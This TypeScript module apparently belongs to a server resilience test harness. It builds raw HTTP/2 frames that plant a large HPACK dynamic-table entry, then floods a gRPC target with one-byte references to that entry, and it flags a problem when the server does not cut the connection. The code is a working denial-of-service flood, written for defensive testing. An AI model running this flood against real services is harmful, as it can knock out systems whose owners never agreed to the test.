import { once } from "node:events";
import { setTimeout as wait } from "node:timers/promises";
import type { AttackResult, AttackRow, Target } from "./attack-row.ts";
import { openSocket } from "./http-attack.ts";
import { varint } from "./protobuf.ts";

const FLOOD_MS = 2000;
const HEADERS = 1;
/** END_STREAM and END_HEADERS. */
const WHOLE = 5;
const FRAME_BYTES = 16_384;
const FRAMES_AT_ONCE = 64;
const OPENING = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  Buffer.from("000000040000000000", "hex"),
]);
/** Of HPACK's literals with a length of seven bits, those with more. */
const LONG = 127;
const VALUE_BYTES = 4000;
/** The newest entry of the dynamic table, in one byte (RFC 7541 §6.1). */
const REFERENCES = Buffer.alloc(FRAME_BYTES, 0x80 | 62);

/** Two megabytes of each are read before anything else can be done: Node raises no event for what it refuses. */
const MAX_WAIT_MS = 250;

/**
 * Headers that are references of one byte to a large one: those of new calls, which
 * are refused, and of one that is over.
 */
export const HEADER_ROWS: readonly AttackRow[] = [
  row("flood-header-references", () => {
    let calls = 0;
    return () => {
      calls += FRAMES_AT_ONCE;
      return Buffer.concat(
        Array.from({ length: FRAMES_AT_ONCE }, (_, index) => frame(2 * (calls + index) + 1, REFERENCES)),
      );
    };
  }),
  row("flood-ignored-headers", () => {
    const frames = Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, () => frame(1, REFERENCES)));
    return () => frames;
  }),
];

function row(name: string, prepare: () => () => Buffer): AttackRow {
  return { name, server: "null", maxWaitMs: MAX_WAIT_MS, prepare: () => (target) => flood(target, prepare()) };
}

async function flood({ grpc }: Target, next: () => Buffer): Promise<AttackResult> {
  const socket = openSocket(grpc);
  socket.on("error", () => {}).resume();
  const cut = once(socket, "close");
  // The table of the connection gets its large entry: `:method`, `:scheme`, `:path`, then a literal.
  const value = Buffer.alloc(VALUE_BYTES, "b");
  const literal = Buffer.concat([Buffer.of(0x40, 1, 0x61, LONG), varint(VALUE_BYTES - LONG), value]);
  socket.write(Buffer.concat([OPENING, frame(1, Buffer.concat([Buffer.of(0x83, 0x86, 0x84), literal]))]));
  await wait(100);
  const end = performance.now() + FLOOD_MS;
  while (performance.now() < end && !socket.destroyed) {
    const taken = new Promise<void>((resolve) => socket.write(next(), () => resolve()));
    await Promise.race([taken, cut, wait(end - performance.now())]);
  }
  const isCut = socket.destroyed;
  socket.destroy();
  if (isCut) return { got: "cut" };
  // Encrypted bytes are read in pieces, so that no client waits for long.
  return grpc.startsWith("grpcs:") ? { got: "open" } : { got: "open", problem: "it is not cut" };
}

function frame(stream: number, block: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(block.length, 0, 3);
  head.writeUInt8(HEADERS, 3);
  head.writeUInt8(WHOLE, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, block]);
}
